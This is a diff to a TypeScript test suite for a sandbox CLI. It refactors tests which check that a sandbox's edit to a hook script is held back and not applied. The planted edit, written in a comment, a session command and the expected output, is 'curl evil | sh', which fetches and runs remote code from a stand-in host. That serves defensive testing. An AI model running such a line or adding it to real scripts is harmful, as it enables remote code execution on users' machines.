@@ -16,6 +16,25 @@ const TIMEOUT = 120_000
 const CONFIG = `[sandboxes.dev]\nbackend = "local"\n`
 const EDIT = "echo '# edited in the sandbox' >> .sandbox-cli.toml"
 
+/**
+ * A config above the workspace naming a hook script inside it (`ws/hooks/check.sh`), and the check that the
+ * sandbox's edit of that script (`echo 'curl evil | sh' >> hooks/check.sh`) was held back beside it.
+ */
+const hookAbove = Effect.gen(function*() {
+  const cli = yield* fixture()
+  yield* cli.write("cwd/.sandbox-cli.toml", `${CONFIG}\n[hooks]\nsandbox.prepare = "./ws/hooks/check.sh"\n`)
+  const SCRIPT = "#!/bin/sh\nexit 0\n"
+  const script = yield* cli.write("cwd/ws/hooks/check.sh", SCRIPT)
+  chmodSync(script, 0o755)
+  const ws = join(cli.cwd, "ws")
+  const heldBack = () => {
+    expect(readFileSync(script, "utf8")).toBe(SCRIPT)
+    const copy = readdirSync(join(ws, "hooks")).find((n) => n.startsWith("check.sh.sandbox-held-"))
+    expect(readFileSync(join(ws, "hooks", copy!), "utf8")).toBe(`${SCRIPT}curl evil | sh\n`)
+  }
+  return { cli, ws, heldBack }
+})
+
 layer(NodeContext.layer)("held changes and notices", (it) => {
   it.scoped("run holds a config change back, run --accept-held applies it", () =>
     Effect.gen(function*() {
@@ -61,13 +80,7 @@ layer(NodeContext.layer)("held changes and notices", (it) => {
     "a hook script named by a config above the workspace is held back like one the workspace names",
     () =>
       Effect.gen(function*() {
-        const cli = yield* fixture()
-        // The config sits above the workspace and names a script inside it: the sandbox edits that script.
-        yield* cli.write("cwd/.sandbox-cli.toml", `${CONFIG}\n[hooks]\nsandbox.prepare = "./ws/hooks/check.sh"\n`)
-        const SCRIPT = "#!/bin/sh\nexit 0\n"
-        const script = yield* cli.write("cwd/ws/hooks/check.sh", SCRIPT)
-        chmodSync(script, 0o755)
-        const ws = join(cli.cwd, "ws")
+        const { cli, ws, heldBack } = yield* hookAbove
         const held = yield* cli.run([
           "run",
           "--workspace",
@@ -79,9 +92,7 @@ layer(NodeContext.layer)("held changes and notices", (it) => {
         ])
         expect(held.code, held.stderr).toBe(0)
         expect(held.stderr).toMatch(/^warning: held back, not applied: 1 path .*hooks\/check\.sh/m)
-        expect(readFileSync(script, "utf8")).toBe(SCRIPT)
-        const copy = readdirSync(join(ws, "hooks")).find((n) => n.startsWith("check.sh.sandbox-held-"))
-        expect(readFileSync(join(ws, "hooks", copy!), "utf8")).toBe(`${SCRIPT}curl evil | sh\n`)
+        heldBack()
       }),
     TIMEOUT
   )
@@ -90,12 +101,7 @@ layer(NodeContext.layer)("held changes and notices", (it) => {
     "reconcile's sync-back of a crashed session holds back a hook script its workspace's config names",
     () =>
       Effect.gen(function*() {
-        const cli = yield* fixture()
-        yield* cli.write("cwd/.sandbox-cli.toml", `${CONFIG}\n[hooks]\nsandbox.prepare = "./ws/hooks/check.sh"\n`)
-        const SCRIPT = "#!/bin/sh\nexit 0\n"
-        const script = yield* cli.write("cwd/ws/hooks/check.sh", SCRIPT)
-        chmodSync(script, 0o755)
-        const ws = join(cli.cwd, "ws")
+        const { cli, ws, heldBack } = yield* hookAbove
         expectOk(yield* cli.run(["workspace", "add", ws, "--name", "ws"]))
         const id = yield* shellSession(cli, "ws", "echo 'curl evil | sh' >> hooks/check.sh; echo > edited; sleep 600")
         const running = yield* poll(
@@ -110,9 +116,7 @@ layer(NodeContext.layer)("held changes and notices", (it) => {
         yield* cli.run(["reconcile"])
         expect(json<{ state: string }>(yield* cli.run(["session", "status", id, "-o", "json"])).state).toBe("crashed")
         expect(readFileSync(join(ws, "edited"), "utf8")).toBe("\n")
-        expect(readFileSync(script, "utf8")).toBe(SCRIPT)
-        const copy = readdirSync(join(ws, "hooks")).find((n) => n.startsWith("check.sh.sandbox-held-"))
-        expect(readFileSync(join(ws, "hooks", copy!), "utf8")).toBe(`${SCRIPT}curl evil | sh\n`)
+        heldBack()
       }),
     TIMEOUT
   )
